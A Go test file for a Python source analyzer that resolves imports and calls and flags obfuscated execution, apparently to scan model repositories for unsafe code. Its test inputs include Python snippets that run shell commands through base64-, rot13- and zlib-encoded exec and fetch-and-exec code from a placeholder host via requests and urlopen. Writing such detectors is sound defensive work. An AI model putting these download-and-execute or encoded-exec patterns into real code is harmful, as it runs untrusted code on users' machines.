package pysrc

import (
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func calls(m *Module) []string {
	var out []string
	for _, c := range m.Calls {
		where := "fn"
		if c.ModuleLevel {
			where = "mod"
		}
		out = append(out, fmt.Sprintf("%d %s %s => %s(%s)", c.Line, where, c.Callee, c.Resolved, strings.Join(c.Args, ", ")))
	}
	return out
}

func TestAnalyzeImportsAndDefs(t *testing.T) {
	src := "import a.b as c, d.e\nfrom . import x\nfrom ..p.q import (r as s,\n    t)\nfrom m import *\n\nclass K(Base):\n    def f(self):\n        import subprocess as sp\n        return 1\n\n    async def g(self): pass\n\ndef h(): return 2\n"
	m, err := Analyze([]byte(src), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	var ims []string
	for _, im := range m.Imports {
		ims = append(ims, fmt.Sprintf("%s as %s ml=%v", im.Target(), im.As, im.ModuleLevel))
	}
	wantIms := []string{"a.b as c ml=true", "d.e as d ml=true", ".x as x ml=true", "..p.q.r as s ml=true", "..p.q.t as t ml=true", "m.* as  ml=true", "subprocess as sp ml=false"}
	if diff := cmp.Diff(wantIms, ims); diff != "" {
		t.Errorf("imports (-want +got):\n%s", diff)
	}
	var defs []string
	for _, d := range m.Defs {
		defs = append(defs, fmt.Sprintf("%s %s %d-%d", d.Kind, d.Qualified, d.Line, d.EndLine))
	}
	wantDefs := []string{"class K 7-12", "def K.f 8-10", "def K.g 12-12", "def h 14-14"}
	if diff := cmp.Diff(wantDefs, defs); diff != "" {
		t.Errorf("defs (-want +got):\n%s", diff)
	}
}

func TestAnalyzeCalls(t *testing.T) {
	src := `import os, subprocess as sp
from os import system as s
class A:
    x = s("a")
    def f(self, d=os.popen("b")):
        sp.run(["ls"], shell=True)
        g = lambda: os.system("c")
cmd = "who" + "ami"
os.system(cmd)
getattr(os, "sys" + "tem")("d")
__import__("os").system("e")
import sys
sys.modules["os"].system("f")
`
	m, _ := Analyze([]byte(src), Limits{})
	want := []string{
		"4 mod s => os.system('a')",
		"5 mod os.popen => os.popen('b')",
		"6 fn sp.run => subprocess.run([…])",
		"7 fn os.system => os.system('c')",
		"9 mod os.system => os.system('whoami')",
		"10 mod getattr => builtins.getattr(os, 'system')",
		"10 mod getattr(os, 'system') => os.system('d')",
		"11 mod __import__ => builtins.__import__('os')",
		"11 mod __import__('os').system => os.system('e')",
		"13 mod sys.modules[…].system => os.system('f')",
	}
	if diff := cmp.Diff(want, calls(m)); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	if v, ok := m.Calls[2].StringKeyword("shell"); ok {
		t.Errorf("shell=True is not a string constant, got %q", v)
	}
}

func TestAnalyzeObfuscation(t *testing.T) {
	tests := []struct {
		name, src string
		chain     string
		download  bool
		inner     string // a resolved inner call
	}{
		{"b64", "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))", "base64.b64decode", false, "os.system"},
		{"variable", "import base64 as b\nc = b.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=').decode()\nexec(c)", "base64.b64decode", false, "os.system"},
		{"zlib hex", "import zlib\neval(compile(zlib.decompress(bytes.fromhex('789ccbcc2dc82f2a51c82f56c82f2eb6032b4f2c2ec9cdd5cfc9d704003f6e066e')), '<s>', 'exec'))", "zlib.decompress bytes.fromhex", false, ""},
		{"rot13", "import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(\"vq\")', 'rot13'))", "codecs.decode", false, "os.system"},
		{"marshal", "import marshal\nexec(marshal.loads(data))", "marshal.loads", false, ""},
		{"download", "import requests\nr = requests.get('http://x/p')\nexec(r.text)", "requests.get", true, ""},
		{"urlopen", "from urllib.request import urlopen\nexec(urlopen('http://x').read().decode())", "urllib.request.urlopen", true, ""},
		{"literal", "exec('import os\\nos.system(1)')", "", false, "os.system"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m, _ := Analyze([]byte(tt.src), Limits{})
			if len(m.Obfuscated) != 1 {
				t.Fatalf("obfuscated: %+v", m.Obfuscated)
			}
			o := m.Obfuscated[0]
			if got := strings.Join(o.Chain, " "); got != tt.chain || o.Download != tt.download || !o.ModuleLevel {
				t.Errorf("chain %q download %v ml %v", got, o.Download, o.ModuleLevel)
			}
			if tt.inner != "" {
				found := false
				if o.Inner != nil {
					for _, c := range o.Inner.Calls {
						found = found || c.Resolved == tt.inner
					}
				}
				if !found {
					t.Errorf("decoded %q: no inner call of %s", o.Decoded, tt.inner)
				}
			}
		})
	}
}

// The analysis of real transformers code finds its classes and no
// import-time calls of the operating system.
func TestAnalyzeFixture(t *testing.T) {
	src, err := os.ReadFile("../../testdata/repos/benign-custom-model/modeling_custom.py")
	if err != nil {
		t.Fatal(err)
	}
	m, err := Analyze(src, Limits{})
	if err != nil || len(m.Errors) > 0 {
		t.Fatal(err, m.Errors)
	}
	if len(m.Defs) < 20 {
		t.Errorf("%d defs", len(m.Defs))
	}
	for _, c := range m.Calls {
		if c.ModuleLevel && strings.HasPrefix(c.Resolved, "os.") && c.Resolved != "os.environ.get" {
			t.Errorf("line %d: %s", c.Line, c.Resolved)
		}
	}
}
